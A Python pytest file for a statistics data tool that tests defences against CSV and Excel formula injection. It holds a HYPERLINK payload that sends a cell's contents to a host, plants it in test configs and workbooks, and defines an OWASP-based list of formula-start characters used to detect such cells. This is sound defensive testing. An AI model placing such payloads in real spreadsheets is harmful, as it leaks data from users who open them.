"""Formulas in other people's texts: nothing that we write for Excel calculates them, and no number is changed."""

import csv
import io
import json
import re
from itertools import chain
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from ilms.forms.entry import Entry, lay_down
from ilms.inert import inert, meant
from ilms.recoding import code_map
from ilms.submission.handover import changes_csv
from ilms.workspace import Source, Workspace

EVIL = '=HYPERLINK("http://127.0.0.1/?"&A1;"x")'
BOOK, SHEET = "sources/2019/dolab.xlsx", "Biểu 18"
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
FIGURE = re.compile(r"[+-]?[\d.,]+")  # what Excel takes for a number, and nothing is run


def calculated(cell: str) -> bool:
    """Whether Excel may run a cell of a CSV: by OWASP's list, blanks before it aside."""
    return cell.strip(" ").startswith(STARTS) and not FIGURE.fullmatch(cell.strip())


def refuse_formulas(text: str) -> None:
    """See that no cell is calculated, whether Excel parts columns at commas or at semicolons."""
    for delimiter in ",;":
        lines = csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=delimiter)
        assert not [cell for cell in chain.from_iterable(lines) if calculated(cell)]


def formulas(path: Path) -> dict[tuple[str, str], object]:
    """The cells of a workbook that Excel calculates."""
    book = openpyxl.load_workbook(path)
    return {
        (sheet.title, cell.coordinate): cell.value
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    }


def type_text(path: Path, sheet: str, cell: str, text: str) -> None:
    """Type a text into a cell as a person does with an apostrophe before it."""
    book = openpyxl.load_workbook(path)
    book[sheet][cell] = text
    book[sheet][cell].data_type = "s"
    book.save(path)


@pytest.fixture
def named(office: Path) -> Path:
    """The office with a source of that name."""
    config = office / "ilms.toml"
    text = config.read_text("utf-8")
    name = 'name = "ADM - Administrative records of the Department of Overseas Labour"'
    assert name in text
    config.write_text(text.replace(name, f"name = '{EVIL}'"), "utf-8")
    return office


@pytest.fixture
def evil(named: Path) -> Path:
    """A country called so besides."""
    type_text(named / BOOK, SHEET, "B12", EVIL)
    return named


@given(st.text(alphabet="=+-@\t\r\n; '1a.,"))
def test_no_text_is_calculated_and_each_comes_back(text: str) -> None:
    shown = inert(text)
    for part in re.split(r"[;\n\r\t]", shown):
        assert not calculated(part)
    assert "'" in text or meant(shown) == text


@pytest.mark.parametrize("number", ["-2.7", "-2,7", "+5", "152.53", "-1.234.567,8", "-1E-7", "0"])
def test_no_number_is_changed(number: str) -> None:
    assert inert(number) == number


@pytest.mark.parametrize(
    "text",
    ["=1", "+84 24", "-", "-1+2", "@SUM(A1)", "\t=1", "\r=1", " =1", "\0=1", "\uff1d1", "a;=1", "a; @x;b", "a\n=1"],
)
def test_what_would_be_calculated_has_an_apostrophe(text: str) -> None:
    assert "'" in inert(text)


def test_the_csv_of_findings(cli, evil: Path) -> None:
    assert cli("-C", evil, "check", "C18", "-o", "found.csv").exit_code == 1
    text = (evil / "found.csv").read_text("utf-8")
    assert "HYPERLINK" in text
    refuse_formulas(text)


def test_the_annotated_copy(cli, evil: Path) -> None:
    before = formulas(evil / BOOK)
    cli("-C", evil, "check", "C18", "--annotate", "build/annotated")
    (copy,) = (evil / "build/annotated").rglob("dolab.findings.xlsx")
    assert formulas(copy) == before
    book = openpyxl.load_workbook(copy)
    assert book[SHEET]["B12"].value == EVIL
    assert any(EVIL in str(cell.value) for row in book.worksheets[0].iter_rows() for cell in row)


def test_the_filled_questionnaire(cli, named: Path) -> None:
    result = cli("-C", named, "build", "--to", "questionnaire-xlsx")
    (filled,) = (named / "build/questionnaire-xlsx").glob("*.xlsx")
    assert filled.is_file(), result.err
    told = [cell.value for sheet in openpyxl.load_workbook(filled) for row in sheet.iter_rows() for cell in row]
    assert EVIL in told
    assert EVIL not in formulas(filled).values()


def test_the_workbooks_for_entry(tmp_path: Path) -> None:
    source = Source("lfs", name=EVIL)
    lay_down(tmp_path, Entry(("en", "vi"), (2024,), (source,)))
    for path in (tmp_path / "sources/entry").glob("*.xlsx"):
        assert not [text for text in formulas(path).values() if "HYPERLINK" in str(text)]
    type_text(path, "codes", "Z1", EVIL)
    source = Source(EVIL, name="")
    lay_down(tmp_path / "other", Entry(("en",), (2024,), (source,)))
    for path in (tmp_path / "other/sources/entry").glob("*.xlsx"):
        assert not [text for text in formulas(path).values() if "HYPERLINK" in str(text)]


def test_the_changes_of_a_hand_over() -> None:
    change = {
        "kind": "revised", "dataflow": "DF_X", "key": {"SEX": "SEX_T", "CDS": "@X"},
        "old": {"OBS_VALUE": "-2.7", "SOURCE": None}, "new": {"OBS_VALUE": "-2,8", "SOURCE": EVIL},
    }  # fmt: skip
    text = changes_csv([(json.dumps(change) + "\n").encode()]).decode("utf-8-sig")
    refuse_formulas(text)
    figures, source = list(csv.DictReader(io.StringIO(text, newline="")))
    assert (figures["old"], figures["new"]) == ("-2.7", "-2,8")
    assert (source["old"], meant(source["new"])) == ("", EVIL)


def test_a_code_map_to_be_filled_in_is_read_back(cli, evil: Path) -> None:
    for mapping in (evil / "mappings").glob("*.toml"):
        mapping.unlink()
    draft = evil / "mappings/c18.toml"
    cli("-C", evil, "inspect", BOOK, "--sheet", SHEET, "--write", draft)
    (asked,) = [path for path in (evil / "maps").glob("*.csv") if "HYPERLINK" in path.read_text("utf-8")]
    refuse_formulas(asked.read_text("utf-8"))
    assert EVIL in code_map.load(asked).labels
    before = asked.read_bytes()
    draft.unlink()
    cli("-C", evil, "inspect", BOOK, "--sheet", SHEET, "--write", draft)
    assert asked.read_bytes() == before


def test_a_message_is_exact(cli, named: Path) -> None:
    result = cli("-C", named, "build", "C18")
    assert result.exit_code == 0, result.err + result.out
    for path in (named / "build").rglob("*C18*.csv"):
        sources = {row["SOURCE"] for row in csv.DictReader(io.StringIO(path.read_text("utf-8"))) if "SOURCE" in row}
        assert sources <= {EVIL}
    written = [path for path in (named / "build").rglob("*.csv") if EVIL.replace('"', '""') in path.read_text("utf-8")]
    assert written
    assert Workspace.load(named).sources["dolab"].name == EVIL
